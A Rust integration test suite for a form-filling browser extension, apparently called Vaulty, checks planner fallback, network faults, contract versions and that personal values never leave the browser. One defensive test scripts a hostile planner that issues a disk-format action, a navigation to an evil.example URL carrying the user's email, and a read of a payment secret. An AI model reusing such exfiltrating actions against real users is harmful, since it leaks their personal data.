//! Who plans: the server, the extension when there is none, and endpoints that must not be believed.

use std::{
    future::pending,
    net::{SocketAddr, TcpListener},
    process::Command,
    sync::{Arc, Mutex},
    thread,
};

use axum::{
    Json,
    http::{StatusCode, header::RETRY_AFTER},
    response::{Html, IntoResponse, Response},
};
use serde_json::{Value, json};
use tests::{
    Http,
    http::{self, Request},
    paths,
    process::Process,
    server::Server,
};

use crate::stage::{PATIENCE, Stage, app, rests};

/// Proves that plans come from the real server, over the network, with keys alone, and that its trace
/// holds what was done.
#[test]
fn the_server_plans_and_keeps_a_trace_without_values() {
    let stage = Stage::with_server_setting();
    let server = Server::start(&[]).expect("the server starts");
    stage.vaulty.use_server(&server).expect("the extension knows the server");
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "paused_for_approval");
    let job = popup.job().expect("a job");
    assert_eq!(job["plannerNote"], "Planned by the server", "{job}");
    assert_eq!(app(&tab)["values"]["email"], "ada@example.org");
    popup.approve(false).expect("yes");
    rests(&popup, "done");
    let log = popup.log().expect("the log").to_string();
    let (_, asked) = log.split_once("asked for a plan: request ").expect("it names the request");
    let id: String = asked.chars().take_while(char::is_ascii_alphanumeric).collect();
    let output = server.output();
    assert!(output.iter().any(|line| line.contains(&id)), "{id}: {output:#?}");
    for line in output {
        assert!(!line.contains("ada@example.org") && !line.contains("Beispielweg"), "{line}");
    }
}

/// Proves that a server that was never started is no obstacle, and that the popup says who planned.
#[test]
fn without_a_server_the_extension_plans() {
    let stage = Stage::with_server_setting();
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "paused_for_approval");
    assert_eq!(app(&tab)["values"]["email"], "ada@example.org");
    let note = popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
    assert!(note.contains("planned in the extension"), "{note}");
    assert!(popup.text("#view-fill, body").expect("text").contains("planned in the extension"));
}

/// Proves that a server that dies between two pages of a form costs nothing.
#[test]
fn a_server_that_dies_in_the_middle_costs_nothing() {
    let stage = Stage::with_server_setting();
    let mut server = Server::start(&[]).expect("the server starts");
    stage.vaulty.use_server(&server).expect("the extension knows the server");
    let (tab, popup) = stage.start("two-page/1.html");
    rests(&popup, "paused_for_approval");
    server.kill();
    popup.approve(true).expect("yes");
    rests(&popup, "paused_for_approval");
    popup.approve(false).expect("yes");
    rests(&popup, "done");
    assert_eq!(app(&tab)["submits"], 2);
    let note = popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
    assert!(note.contains("planned in the extension"), "{note}");
}

/// An endpoint that knows only the old contract and answers every question about a plan with `answers`, in
/// turn; the last one again and again. Keeps the bodies that it got.
struct Endpoint {
    http: Http,
    bodies: Arc<Mutex<Vec<String>>>,
}

impl Endpoint {
    fn answering(answers: Vec<Value>) -> Self {
        let bodies = Arc::<Mutex<Vec<String>>>::default();
        let kept = Arc::clone(&bodies);
        let http = Http::start(async move |request: Request| {
            if request.uri().path() != NEXT {
                return Err(StatusCode::NOT_FOUND);
            }
            let mut kept = kept.lock().expect("a lock");
            let answer = answers.get(kept.len()).or(answers.last()).cloned();
            kept.push(request.into_body());
            answer.map(Json).ok_or(StatusCode::NOT_FOUND)
        });
        Self { http: http.expect("the endpoint is up"), bodies }
    }

    fn url(&self) -> String {
        self.http.url("")
    }
}

const NEXT: &str = "/api/agent/next";

/// What goes wrong between the extension and its server.
#[derive(Clone, Copy)]
enum Fault {
    /// The answer ends in the middle of its body.
    Cut,
    /// The server is too busy and says so.
    Busy,
    /// Something else than the server answers.
    NotJson,
    /// Nothing comes.
    Silence,
}

/// An endpoint that goes wrong in this way at each plan.
fn faulty(fault: Fault) -> Http {
    let answer = async move |request: Request| -> Response {
        if request.uri().path() != NEXT {
            return StatusCode::NOT_FOUND.into_response();
        }
        match fault {
            Fault::Cut => http::cut(999, r#"{"actions": ["x", "x"#),
            Fault::Busy => {
                let busy =
                    json!({"error": {"code": "busy", "message": "busy", "requestId": "none"}});
                let status = StatusCode::SERVICE_UNAVAILABLE;
                (status, [(RETRY_AFTER, "1")], Json(busy)).into_response()
            }
            Fault::NotJson => Html("<h1>Log in</h1>").into_response(),
            Fault::Silence => pending().await,
        }
    };
    Http::start(answer).expect("the endpoint is up")
}

/// An address whose connections are reset before an answer. No HTTP server does that: what was sent is never
/// read, and closing resets the connection.
fn resetting() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    // Ends with the test's process; it serves nothing but this test.
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = stream.peek(&mut [0; 1]);
        }
    });
    url
}

/// Hands each request over twice and gives the second answer back, as a network does that repeats.
fn doubling(server: &Server) -> Http {
    let behind: SocketAddr =
        server.url().trim_start_matches("http://").parse().expect("an address");
    let answer = async move |request: Request| {
        http::send(behind, request.clone()).await.expect("it answers");
        let answer = http::send(behind, request).await.expect("it answers");
        answer.map(axum::body::Body::from)
    };
    Http::start(answer).expect("it is up")
}

fn with_endpoint(answers: Vec<Value>) -> (Stage, Endpoint) {
    let endpoint = Endpoint::answering(answers);
    let stage = Stage::with_server_setting();
    stage
        .vaulty
        .home()
        .set_settings(&[("#use-server", true.into()), ("#api-base", endpoint.url().into())])
        .expect("settings are saved");
    (stage, endpoint)
}

/// Proves that whatever the network does to a plan, the form is filled, once and right, and that the popup
/// says why the server had no part in it.
#[test]
fn faults_of_the_network_cost_no_job() {
    let stage = Stage::with_server_setting();
    let home = stage.vaulty.home();
    let faulty = [
        (Fault::Cut, "can’t be reached"),
        (Fault::Busy, "busy"),
        (Fault::NotJson, "planned in the extension"),
        (Fault::Silence, "in time"),
    ]
    .map(|(fault, note)| (faulty(fault), note));
    let faulty = faulty.iter().map(|(endpoint, note)| (endpoint.url(""), *note));
    for (url, note) in [(resetting(), "can’t be reached")].into_iter().chain(faulty) {
        home.set_settings(&[("#use-server", true.into()), ("#api-base", url.as_str().into())])
            .expect("settings are saved");
        let (tab, popup) = stage.start("two-page/1.html");
        popup.wait_status(&["paused_for_approval"], 2 * PATIENCE).expect("it is filled");
        let told =
            popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
        assert!(told.contains(note), "{told}");
        popup.approve(true).expect("yes");
        rests(&popup, "paused_for_approval");
        popup.approve(false).expect("yes");
        rests(&popup, "done");
        let seen = app(&tab);
        assert_eq!(
            (&seen["submits"], &seen["values"]["email"]),
            (&json!(2), &json!("ada@example.org"))
        );
    }
}

/// Proves that a request which arrives twice is one step: the repeat gets the same plan.
#[test]
fn a_request_that_arrives_twice_is_one_step() {
    let stage = Stage::with_server_setting();
    let server = Server::start(&[]).expect("the server starts");
    stage.vaulty.use_server(&server).expect("the extension knows the server");
    let network = doubling(&server);
    // Another address is another server: the token is entered for it.
    let token = stage.vaulty.server_token().expect("the extension has a token");
    let home = stage.vaulty.home();
    home.set_settings(&[("#api-base", network.url("").into())]).expect("it is saved");
    home.set_settings(&[("#server-token", token.into())]).expect("it is saved");
    let (tab, popup) = stage.start("two-page/1.html");
    rests(&popup, "paused_for_approval");
    assert_eq!(popup.job().expect("a job")["plannerNote"], "Planned by the server");
    popup.approve(true).expect("yes");
    rests(&popup, "paused_for_approval");
    popup.approve(false).expect("yes");
    rests(&popup, "done");
    assert_eq!(app(&tab)["submits"], 2);
}

/// Proves that an endpoint of the old contract is spoken with: placeholders go out, placeholders come back,
/// one action at a time, and no value ever leaves.
#[test]
fn an_endpoint_of_the_old_contract_fills_by_placeholders() {
    let fill = |id: &str, value: &str| {
        json!({"action": {"type": "FILL", "target": {"by": "id", "selector": id}, "value": value},
               "forceLive": false})
    };
    let (stage, endpoint) = with_endpoint(vec![
        fill("first", "{{firstName}}"),
        fill("email", "{{email}}"),
        json!({"action": {"type": "DONE", "summary": "Filled two fields."}, "forceLive": false}),
    ]);
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "done");
    assert_eq!(app(&tab)["values"], json!({"first": "Ada", "email": "ada@example.org"}));
    let bodies = endpoint.bodies.lock().expect("a lock").join("\n");
    assert!(bodies.contains("{{address.city}}"), "the placeholder profile is sent");
    for value in ["ada@example.org", "Beispielweg", "Ada", "10115"] {
        assert!(!bodies.contains(value), "{value} left the browser");
    }
}

/// Proves that the planner of docs/PLANNER.md, as it stands there, fills a form and has it sent: a program of somebody's own
/// that knows nothing of Vaulty but the contract.
#[test]
fn the_planner_of_the_document_fills_a_form() {
    let mut python = Command::new("python3");
    if python.arg("--version").output().is_err() {
        assert!(std::env::var_os("CI").is_none(), "no Python is installed");
        println!("skipped: no Python is installed");
        return;
    }
    let mut python = Command::new("python3");
    python.arg(paths::workspace().join("docs/examples/planner.py")).arg("0");
    let planner = Process::of(python).expect("the planner is up");
    let stage = Stage::with_server_setting();
    let home = stage.vaulty.home();
    home.set_settings(&[("#use-server", true.into()), ("#api-base", planner.url().into())])
        .expect("settings are saved");
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "paused_for_approval");
    let job = popup.job().expect("a job");
    assert_eq!(job["plannerNote"], "Planned by the server", "{job}");
    popup.approve(false).expect("yes");
    rests(&popup, "done");
    let seen = app(&tab);
    assert_eq!(
        (&seen["submits"], &seen["values"]["email"]),
        (&json!(1), &json!("ada@example.org"))
    );
    assert_eq!(seen["values"]["country"], "DE");
}

/// Proves that a server of a later contract is asked for no plan, that the form is filled without it, and that the person
/// is told who has to be brought up to date.
#[test]
fn a_server_of_a_later_contract_is_not_asked_and_the_person_told() {
    let asked = Arc::<Mutex<Vec<String>>>::default();
    let kept = Arc::clone(&asked);
    let later = Http::start(async move |request: Request| -> Response {
        let path = request.uri().path().to_owned();
        let is_health = path == "/api/health";
        kept.lock().expect("a lock").push(path);
        if !is_health {
            return StatusCode::NOT_FOUND.into_response();
        }
        Json(json!({"status": "ok", "name": "vaulty", "version": "9.0.0", "contract": 999}))
            .into_response()
    });
    let later = later.expect("it is up");
    let stage = Stage::with_server_setting();
    let home = stage.vaulty.home();
    let settings = [("#use-server", true.into()), ("#api-base", later.url("").into())];
    home.set_settings(&settings).expect("settings are saved");
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "paused_for_approval");
    assert_eq!(app(&tab)["values"]["email"], "ada@example.org");
    let note = popup.job().expect("a job")["plannerNote"].as_str().unwrap_or_default().to_owned();
    assert!(note.contains("too new for this extension"), "{note}");
    home.view("settings").expect("settings");
    home.press("#check-server").expect("check");
    let told = "document.querySelector('#server-message').textContent.includes('9.0.0')";
    home.page.wait_for(told, PATIENCE).expect("it is told");
    let told = home.text("#server-message").expect("a text");
    let advice = format!("Get the extension anew from {}", later.url(""));
    assert!(told.contains(&advice), "{told}");
    let asked = asked.lock().expect("a lock");
    assert!(asked.iter().all(|path| path == "/api/health"), "{asked:?}");
}

/// Proves that a hostile endpoint gets nothing done: unknown actions, literals, other sites, selectors that
/// match nothing or too much. The extension's own rules finish the job.
#[test]
fn a_hostile_planner_gets_nothing_done() {
    let (stage, _endpoint) = with_endpoint(vec![json!({"actions": [
        {"type": "FORMAT_DISK"},
        {"type": "NAVIGATE", "url": "https://evil.example/?x={{email}}"},
        {"type": "FILL", "target": {"by": "css", "selector": "input"}, "valueFrom": "email"},
        {"type": "FILL", "target": {"by": "xpath", "xpath": "///"}, "valueFrom": "email"},
        {"type": "FILL", "target": {"by": "id", "selector": "nothing"}, "valueFrom": "email"},
        {"type": "FILL", "target": {"by": "id", "selector": "first"}, "valueFrom": "payment.secret"},
        {"type": "CLICK", "target": {"by": "text", "text": "Send"}, "requiresApproval": false}
    ]})]);
    let (tab, popup) = stage.start("simple.html");
    popup.wait_at_rest(PATIENCE).expect("the job comes to rest");
    assert_eq!(popup.status().expect("a status"), "paused_for_approval", "the click asks");
    let seen = app(&tab);
    assert_eq!(seen["submits"], 0);
    assert_eq!(seen["values"], json!({}), "nothing was written by it");
    assert_eq!(tab.page.url().expect("an address"), stage.site.url("simple.html"));
}

/// Proves that a value which a planner makes up becomes a question, and that the answer is remembered.
#[test]
fn an_invented_value_becomes_a_question() {
    let (stage, _endpoint) = with_endpoint(vec![json!({"actions": [
        {"type": "FILL", "target": {"by": "id", "selector": "first"}, "value": "Mallory"}
    ]})]);
    let (tab, popup) = stage.start("simple.html");
    rests(&popup, "needs_input");
    assert_eq!(app(&tab)["values"], json!({}));
    popup.answer(&[("answers.First name", "Grace")]).expect("an answer");
    popup.wait_at_rest(PATIENCE).expect("the job comes to rest");
    assert_eq!(popup.profile().expect("a profile")["answers"]["First name"], "Grace");
    assert_ne!(app(&tab)["values"]["first"], "Mallory");
}

/// Proves that the person's choice of a model goes out with each request, and its key with it.
#[test]
fn the_choice_of_a_model_is_sent_with_each_request() {
    let done = json!({"action": {"type": "DONE", "summary": "Done."}, "forceLive": false});
    let (stage, endpoint) = with_endpoint(vec![done]);
    let settings = [
        ("#llm-provider", "openai-compatible"),
        ("#llm-model", "small-one"),
        ("#llm-api-key", "sk-mine"),
        ("#llm-base-url", "http://127.0.0.1:4711/v1"),
        ("#llm-mode", "llm-first"),
    ];
    let settings: Vec<(&str, Value)> =
        settings.iter().map(|(control, value)| (*control, (*value).into())).collect();
    stage.vaulty.home().set_settings(&settings).expect("settings are saved");
    let (_tab, popup) = stage.start("simple.html");
    rests(&popup, "done");
    let bodies = endpoint.bodies.lock().expect("a lock").clone();
    assert!(!bodies.is_empty());
    for body in bodies {
        let body: Value = serde_json::from_str(&body).expect("JSON");
        let wanted = json!({"provider": "openai-compatible", "model": "small-one", "apiKey": "sk-mine",
                            "baseUrl": "http://127.0.0.1:4711/v1", "mode": "llm-first"});
        assert_eq!(body["llm"], wanted);
    }
}

/// Proves that a log which the extension exports holds what a plan was made from, without values, and that
/// the server's program plans the same from it: a report of what went wrong is a test.
#[test]
fn an_exported_log_is_planned_again() {
    let stage = Stage::alone();
    stage.vaulty.home().set_settings(&[("#log-level", "debug".into())]).expect("it is saved");
    let (_tab, popup) = stage.start("two-page/1.html");
    rests(&popup, "paused_for_approval");
    popup.approve(true).expect("yes");
    rests(&popup, "paused_for_approval");
    let log = popup.log().expect("a log").to_string();
    assert!(!log.contains("ada@example.org") && !log.contains("Beispielweg"), "{log}");
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("vaulty-log.json");
    std::fs::write(&file, log).expect("it is written");
    let replayed = std::process::Command::new(paths::server().expect("the server is built"))
        .arg("replay")
        .arg(&file)
        .output()
        .expect("it runs");
    let said = String::from_utf8_lossy(&replayed.stdout).into_owned();
    assert!(replayed.status.success(), "{said}{}", String::from_utf8_lossy(&replayed.stderr));
    assert!(said.contains("step 2"), "both pages are there: {said}");
}
